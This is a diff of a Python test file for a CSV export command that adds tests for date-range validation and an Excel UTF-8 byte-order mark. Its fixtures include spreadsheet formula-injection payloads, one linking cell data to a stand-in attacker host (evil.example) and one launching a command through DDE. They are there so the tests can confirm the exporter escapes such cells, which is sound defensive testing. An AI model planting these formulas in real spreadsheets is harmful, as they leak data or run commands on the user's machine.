@@ -1,18 +1,17 @@
 """`leadloop export`: feedback and leads as CSV a spreadsheet shows and never runs."""
 
-import asyncio
+import codecs
 import csv
 from pathlib import Path
 
 import pytest
 
-from bot.cli import main
 from bot.deps import Deps
 from handlers.data_export import cell
 from storage.feedback import FeedbackInput, record_feedback
 from storage.leads import get_or_create_lead
 from tests.factories import REP, TEAM
-from tests.helpers import seed_campaign
+from tests.helpers import run_cli, seed_campaign
 
 HOSTILE_NOTE = '=HYPERLINK("http://evil.example/?"&A1, "click")'
 HOSTILE_NAME = "=cmd|' /C calc'!A0"
@@ -38,10 +37,7 @@ async def seed_feedback(deps: Deps) -> None:
 async def export(
     deps: Deps, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], *args: str
 ) -> tuple[int, str, str]:
-    monkeypatch.setenv("DATABASE_URL", deps.settings.database_url)
-    status = await asyncio.to_thread(main, ["export", *args])
-    captured = capsys.readouterr()
-    return status, captured.out, captured.err
+    return await run_cli(deps, monkeypatch, capsys, "export", *args)
 
 
 def read_csv(path: Path) -> list[dict[str, str]]:
@@ -89,3 +85,57 @@ def test_cells_that_would_run_are_prefixed() -> None:
     for text in ("=1+1", "+1", "-1", "@x", "\tx", "\rx"):
         assert cell(text) == "'" + text
     assert cell("plain") == "plain" and cell(None) == "" and cell(3) == "3"
+
+
+@pytest.mark.parametrize(
+    ("since", "until", "said"),
+    [
+        ("2026-11-25", "2026-11-24", "2026-11-25 00:00 UTC is not before --until 2026-11-24 00:00"),
+        ("2026-11-24T13:00+01:00", "2026-11-24T12:00Z", "2026-11-24 12:00 UTC is not before "
+         "--until 2026-11-24 12:00"),
+    ],
+)  # fmt: skip
+async def test_since_not_before_until_is_one_line_and_writes_nothing(
+    deps: Deps,
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    capsys: pytest.CaptureFixture[str],
+    since: str,
+    until: str,
+    said: str,
+) -> None:
+    await seed_feedback(deps)
+    folder = tmp_path / "out"
+    folder.mkdir()
+    target = folder / "feedback.csv"
+    status, out, err = await export(
+        deps, monkeypatch, capsys, "feedback", "--since", since, "--until", until, "-o", str(target)
+    )
+    assert (status, out) == (2, "")
+    assert err == (
+        f"leadloop: --since {said} UTC: the export covers --since up to, not including, --until.\n"
+    )
+    assert list(folder.iterdir()) == []
+
+
+async def test_excel_export_starts_with_a_utf8_bom(
+    deps: Deps, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """Excel reads a CSV without a BOM in the machine's code page, garbling ü and é."""
+    await seed_feedback(deps)
+    target = tmp_path / "leads.csv"
+    status, _out, _err = await export(
+        deps, monkeypatch, capsys, "leads", "--excel", "-o", str(target)
+    )
+    raw = target.read_bytes()
+    assert status == 0 and raw.startswith(codecs.BOM_UTF8)
+    assert not raw[3:].startswith(codecs.BOM_UTF8)
+    with open(target, encoding="utf-8-sig", newline="") as source:
+        [row] = list(csv.DictReader(source))
+    assert row["external_id"] == "crm-1"
+
+    status, out, _err = await export(deps, monkeypatch, capsys, "leads", "--excel")
+    assert status == 0 and out.startswith("\ufeff") and out.count("\ufeff") == 1
+
+    status, out, _err = await export(deps, monkeypatch, capsys, "leads", "-o", str(target))
+    assert not target.read_bytes().startswith(codecs.BOM_UTF8)
